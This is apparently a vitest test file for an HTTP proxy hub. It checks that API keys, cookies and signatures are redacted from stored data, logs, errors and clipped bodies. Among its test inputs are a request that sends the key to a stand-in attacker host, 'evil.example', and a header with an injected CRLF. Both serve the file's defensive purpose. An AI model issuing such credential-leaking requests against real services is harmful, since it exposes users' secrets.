import { afterAll, beforeAll, expect, it } from 'vitest';
import { type TestDatabase, testDatabase } from '../../../test/support/database.js';
import { KEPT_BYTES, unpackBody } from '../exchanges/bodies.js';
import { acme, CREDENTIALS, HOST } from '../test/acme.js';
import { App, sendJson } from '../test/app.js';
import { Hub, migrated } from '../test/hub.js';

let database: TestDatabase;
let app: App;
let hub: Hub;
const lines: string[] = [];

beforeAll(async () => {
  database = await testDatabase();
  await migrated(database.url);
  app = await App.start();
  hub = await Hub.start(database.url, { lines, settings: { endpoints: [`${HOST}=${app.address}`] } });
});
afterAll(async () => {
  await hub?.stop();
  await app?.stop();
  await database?.drop();
});

const manifest = () => {
  const declared = acme();
  return {
    ...declared,
    connection: { ...declared.connection!, headers: { 'x-api-key': '{key}', 'x-both': 'id={id} key={key}' } },
  };
};

/** Everything in the database, as text, bodies unpacked. */
async function everything(): Promise<string> {
  const tables = await hub.database.query<{ name: string }>(
    'select table_name as name from information_schema.tables where table_schema = database()',
  );
  const texts: string[] = [];
  for (const { name } of tables) {
    for (const row of await hub.database.query(`select * from ${name}`)) {
      for (const [column, value] of Object.entries(row)) {
        if (!Buffer.isBuffer(value)) texts.push(typeof value === 'string' ? value : JSON.stringify(value));
        else texts.push(column.endsWith('body') ? await unpackBody(value) : value.toString('latin1'), column);
      }
    }
  }
  return texts.join('\n');
}

it('leaves no secret in what is kept, in log lines or in errors, though the app repeats everything it was told', async () => {
  const signatures: string[] = [];
  app.reply = ({ url, headers, body }, response) => {
    signatures.push(String(headers['api-auth-signature']));
    const long = url.includes('long') ? 'x'.repeat(5000) : undefined;
    const said = {
      url,
      headers,
      body,
      long,
      basic: Buffer.from(`${CREDENTIALS.id}:${CREDENTIALS.key}`).toString('base64'),
    };
    const status = url.includes('fail') ? 500 : 200;
    sendJson(response, said, status, {
      'x-echo': encodeURIComponent(CREDENTIALS.key),
      'set-cookie': 'session=hush-hush',
    });
  };
  const door = hub.open(await hub.connect('fern', CREDENTIALS, manifest()), { manifest: manifest() });
  const told = { note: `my key is ${CREDENTIALS.key}` };
  await door.http({ path: 'a', query: { q: CREDENTIALS.key } });
  await door.http({ path: 'long', query: { q: CREDENTIALS.key } });
  await door.http({
    method: 'POST',
    path: 'b',
    json: told,
    headers: { authorization: `Bearer ${CREDENTIALS.key}`, cookie: 'hush-hush' },
  });
  await door.http({
    method: 'POST',
    path: 'c',
    body: `x=${encodeURIComponent(CREDENTIALS.key)}`,
    purpose: CREDENTIALS.key,
  });
  const errors = [
    await door.http({ method: 'POST', path: 'fail', json: told }).catch(String),
    await door.http({ path: `https://evil.example/${CREDENTIALS.key}` }).catch(String),
    await door.http({ path: 'x', headers: { host: CREDENTIALS.key } }).catch(String),
    await door.http({ path: 'x', headers: { 'x-bad': `${CREDENTIALS.key}\r\n` } }).catch(String),
  ];
  await door.flush();

  const kept = await everything();
  expect(kept).toContain('my key is •••');
  const places = { kept, lines: lines.join('\n'), errors: errors.join('\n') };
  const inBase64 = Buffer.from(CREDENTIALS.key).toString('base64');
  const forms = [
    CREDENTIALS.key,
    encodeURIComponent(CREDENTIALS.key),
    inBase64,
    inBase64.slice(3, -4),
    'hush-hush',
    ...signatures,
  ];
  forms.push(JSON.stringify(CREDENTIALS.key).slice(1, -1));
  for (const [place, text] of Object.entries(places)) {
    for (const form of forms) expect(text.includes(form), `${form} in ${place}`).toBe(false);
  }
});

it('hides a secret that lies where a long body is cut', async () => {
  const { key } = CREDENTIALS;
  for (const shift of [1, 5, key.length - 1]) {
    app.reply = (_, response) =>
      void response.setHeader('content-type', 'text/plain').end(`${'x'.repeat(KEPT_BYTES - shift)}${key} and more`);
    const { exchange } = await hub.open(await hub.connect()).http({ path: 'long' });
    const { answer } = await hub.exchange(exchange);
    expect(answer).toMatchObject({ clipped: true, length: KEPT_BYTES - shift + key.length + 9 });
    expect(answer!.body.replaceAll('x', '')).not.toContain(key.slice(0, shift).slice(0, 2));
  }
});

it('hides the connection’s secrets in a line of the plugin', async () => {
  const door = hub.open(await hub.connect());
  app.reply = (_, response) => sendJson(response, {});
  await door.http({ path: 'x' });
  expect(door.strikeOut(`the app said ${CREDENTIALS.key}`)).toBe('the app said •••');
});
